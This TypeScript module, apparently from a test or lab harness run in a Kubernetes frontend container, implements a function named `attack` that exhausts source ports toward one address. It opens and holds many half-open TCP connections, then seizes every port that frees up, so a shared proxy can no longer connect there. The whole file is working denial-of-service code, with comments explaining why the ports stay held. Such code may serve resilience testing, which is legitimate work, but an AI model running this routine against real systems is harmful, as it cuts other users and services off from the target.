// Holds every port from which the Pod can connect to one address. The proxy shares these ports, so it cannot connect there any
// more. This file runs in the frontend's container.
import { createConnection, type Socket } from 'node:net'
import { setImmediate as endOfTurn, setTimeout as sleep } from 'node:timers/promises'

/** `most`: how many sockets one process may have. */
export type HoldOrder = { host: string; port: number; most: number }
export type Held = { held: number; refused: string }

const AT_ONCE = 100
/** A port that somebody else gives up is taken within this time. */
const RETRY_MS = 10

/** Prints the number of sockets once no port is left, or it has `most`. Takes each port that gets free, until its input ends. */
export async function attack(
  { host, port, most }: HoldOrder,
  commands: AsyncIterator<string>,
): Promise<void> {
  const sockets = new Set<Socket>()
  let refused = ''

  /** Returns false if no port is left. A connection that nobody answers holds its port, too. */
  async function take(count: number): Promise<boolean> {
    let isFull = false
    for (let index = 0; index < count && sockets.size < most; index++) {
      // When the proxy closes its side, the port stays in use until this side closes.
      const socket = createConnection({ host, port, allowHalfOpen: true })
      sockets.add(socket)
      socket.on('error', (error: NodeJS.ErrnoException) => {
        sockets.delete(socket)
        refused = error.code ?? error.message
        isFull ||= refused === 'EADDRNOTAVAIL'
      })
    }
    await endOfTurn()
    return !isFull && sockets.size < most
  }

  let isOver = false
  void commands.next().then(() => {
    isOver = true
  })
  while (!isOver && (await take(AT_ONCE))) {}
  console.log(JSON.stringify({ held: sockets.size, refused }))
  while (!isOver) {
    if (!(await take(1))) await sleep(RETRY_MS)
  }
  for (const socket of sockets) socket.destroy()
}
